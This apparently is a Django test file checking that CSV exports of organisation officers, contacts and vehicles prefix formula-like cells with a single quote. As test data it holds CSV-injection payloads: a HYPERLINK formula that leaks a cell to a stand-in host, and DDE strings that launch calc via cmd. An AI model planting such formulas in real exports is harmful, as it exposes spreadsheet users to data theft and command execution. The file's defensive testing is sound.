"""Exports are inert (core.exports): a cell a spreadsheet would run as a formula is written with
a single quote in front, on the public IDO list and on staff exports; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts import roles
from core.exports import inert, inert_row
from organizations.models import OrganizationPerson, PersonRole
from tests.organizations.factories import OrganizationFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&B2,"open")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Hartford Ambulance", "Hartford Ambulance"),
        ("a=b", "a=b"),  # only the first character matters
        ("-12.50", "-12.50"),  # a plain number cannot be a formula
        ("+5", "+5"),
        (Decimal("-12.50"), Decimal("-12.50")),  # numbers stay numeric
        (-3, -3),
        (None, None),
    ],
)
def test_inert_prefixes_only_text_a_spreadsheet_would_run(value, expected):
    assert inert(value) == expected


def test_inert_row_empties_missing_cells():
    assert inert_row(["=1", None, 2]) == ["'=1", "", 2]


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def test_public_ido_csv_is_inert():
    organization = OrganizationFactory(number="AMB-0555", legal_name=FORMULA)
    OrganizationPerson.objects.create(
        organization=organization,
        role=PersonRole.IDO,
        full_name="@Ida Officer",
        email="ida@example.org",
        phone="-1+1",
    )
    from django.test import Client

    response = Client().get(reverse("organizations:ido-list-csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(response)
    assert rows[0] == ["organization_number", "organization_name", "officer", "email", "phone"]
    assert rows[1] == ["AMB-0555", "'" + FORMULA, "'@Ida Officer", "ida@example.org", "'-1+1"]


def test_staff_contacts_csv_is_inert(staff_client):
    organization = OrganizationFactory(number="AMB-0556", legal_name="Safe Name")
    OrganizationPerson.objects.create(
        organization=organization,
        role=PersonRole.CONTACT,
        full_name=FORMULA,
        title="+Chief",
        email="casey@example.org",
    )
    response = staff_client(roles.LICENSING_REVIEWER).get(reverse("organizations:contacts-csv"))
    rows = _csv_rows(response)
    assert rows[1][:5] == ["AMB-0556", "Safe Name", "Contact", "'" + FORMULA, "'+Chief"]


def test_staff_streaming_vehicle_export_is_inert(staff_client):
    from tests.vehicles.factories import VehicleFactory

    vehicle = VehicleFactory(make="=cmd|' /C calc'!A0")
    client = staff_client(roles.SUPERVISOR)
    response = client.post(
        reverse("admin:vehicles_vehicle_changelist"),
        {"action": "export_csv", "_selected_action": [vehicle.pk]},
    )
    assert response.streaming
    cells = [cell for row in _csv_rows(response)[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith("=") for cell in cells)
